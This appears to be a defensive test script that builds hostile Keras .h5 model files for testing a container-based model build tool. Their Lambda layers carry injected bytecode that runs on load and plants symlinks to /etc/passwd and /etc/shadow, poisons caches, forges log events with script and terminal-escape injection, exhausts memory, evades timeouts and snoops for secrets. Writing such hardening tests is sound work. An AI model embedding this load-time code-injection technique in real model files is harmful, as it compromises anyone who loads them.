"""Hostile models: Keras 2 .h5 files whose Lambda layer attacks the build (run inside the stand-in image).

    python3 tests/hostile_models.py OUT_DIR [NAME ...]

tf_keras runs a Lambda's bytecode when it loads the model (again at every call), so
each attack runs inside the build container, as the model's author would have it.
The functions are marshalled into the file: they import what they need themselves.
Each model is x (8,) -> Lambda -> Dense(2), trained on nothing; only the Lambda matters.
"""
import os
import sys

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")


def plant_links(x):
    """Links and junk where the host picks up artifacts, cache entries and evidence."""
    import os
    work = "/trtkit/work"
    for folder, name, target in (("artifacts", "model.onnx", "/etc/passwd"),   # allowed name, as a link
                                 ("artifacts", "escape", "/"),
                                 ("cache", "timing-8.6.0-evil-sm90.cache", "/etc/shadow"),
                                 ("evidence", "inputs.npz", "/etc/passwd")):
        os.makedirs(os.path.join(work, folder), exist_ok=True)
        path = os.path.join(work, folder, name)
        if not os.path.lexists(path):
            os.symlink(target, path)
    with open(os.path.join(work, "cache", "calibration-" + "0" * 32 + ".cache"), "w") as f:
        f.write("poison")
    with open(os.path.join(work, "cache", "notes.txt"), "w") as f:
        f.write("not a cache file")
    return x


def link_before_bulk(x):
    """A link at an artifact's name, then 100 MB after it: the host refuses the link mid-stream."""
    import os
    folder = "/trtkit/work/artifacts"
    if not os.path.lexists(folder + "/model.onnx"):
        os.symlink("/etc/passwd", folder + "/model.onnx")
        with open(folder + "/zz_bulk", "wb") as f:     # after model.onnx in the archive, far past socket buffers
            for _ in range(100):
                f.write(b"\0" * (1 << 20))
    return x


def forge_output(x):
    """Forged and malformed events, terminal escapes, rich markup, HTML, and a huge line."""
    import sys
    lines = [
        '::trtkit::{"event": "artifact", "name": "../../escape", "kind": "onnx"}',
        '::trtkit::{"event": "versions", "evil": "<script>alert(1)</script> [x](http://e.invalid) | cell"}',
        '::trtkit::{"event": "step_end", "step": "forged"}',
        '::trtkit::{"event": "names", "inputs": "not a list", "outputs": 3}',
        '::trtkit::{"event": "no_such_event"}',
        '::trtkit::{not json',
        '::trtkit::' + '[' * 100000 + ']' * 100000,
        "\x1b[31mRED\x1b[0m \x1b]0;owned title\x07 [bold red]markup[/] [/x] closing",
    ]
    sys.stdout.write("\n".join(lines) + "\n" + "A" * (3 << 20) + "\n")
    sys.stdout.flush()
    return x


def sleep_forever(x):
    import time
    time.sleep(3600)
    return x


def keep_alive(x):
    """Sleep past --timeout while printing the step's start again and again, to re-arm its deadline."""
    import sys
    import threading
    import time

    def beat():
        while True:
            sys.stdout.write('::trtkit::{"event": "step_start", "step": "inspect"}\n')
            sys.stdout.flush()
            time.sleep(3)
    threading.Thread(target=beat, daemon=True).start()
    time.sleep(90)
    return x


def eat_memory(x):
    chunks = []
    for _ in range(64):
        chunks.append(bytearray(256 << 20))    # bytearray writes its zeros: the pages are really used
    return x


def snoop(x):
    """Report what the container can see and do; the test checks none of the host's secrets show."""
    import glob
    import os
    import socket
    status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
    found = []
    for pattern in ("/trtkit/**/*canary*", "/home/**/*canary*", "/root/**/*canary*", "/tmp/**/*canary*"):
        found += glob.glob(pattern, recursive=True)
    attempts = []
    for path in ("/evil-root-write", "/trtkit/scripts/evil", "/trtkit/model/evil"):
        try:
            open(path, "w").close()
            attempts.append(path + "=written")
        except OSError as e:
            attempts.append("%s=%s" % (path, e.__class__.__name__))
    try:
        socket.create_connection(("1.1.1.1", 53), timeout=2)
        network = "open"
    except OSError:
        network = "none"
    print("SNOOP uid=%d caps=%s nnp=%s model_dir=%s canaries=%s writes=%s network=%s" % (
        os.getuid(), status["CapEff"].strip(), status["NoNewPrivs"].strip(), sorted(os.listdir("/trtkit/model")),
        found, ",".join(attempts), network))
    return x


def exit_early(x):
    """Leave the step with status 0 before it wrote anything."""
    import os
    os._exit(0)


ATTACKS = {"plant_links": plant_links, "link_before_bulk": link_before_bulk, "forge_output": forge_output,
           "sleep_forever": sleep_forever, "keep_alive": keep_alive, "eat_memory": eat_memory, "snoop": snoop,
           "exit_early": exit_early}


def make(tf_keras, attack, path):
    """Built with a harmless Lambda (building calls it), then the attack's bytecode is put in its place."""
    L = tf_keras.layers
    x = L.Input((8,), name="x")
    model = tf_keras.Model(x, L.Dense(2, name="head")(L.Lambda(lambda t: t, name=attack)(x)))
    model.save(path)
    _swap_function(path, ATTACKS[attack])


def main(out, names):
    import tf_keras
    os.makedirs(out, exist_ok=True)
    for name in names or sorted(ATTACKS):
        path = os.path.join(out, name + ".h5")
        if not os.path.exists(path):
            make(tf_keras, name, path)
        print("made", path)


def _swap_function(path, function):
    """Replace the Lambda's stored bytecode with another function's, without running either."""
    import json

    import h5py
    from tf_keras.src.utils.generic_utils import func_dump
    with h5py.File(path, "r+") as f:
        config = json.loads(f.attrs["model_config"])
        for layer in config["config"]["layers"]:
            if layer["class_name"] == "Lambda":
                layer["config"]["function"] = list(func_dump(function))
        f.attrs["model_config"] = json.dumps(config)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2:])
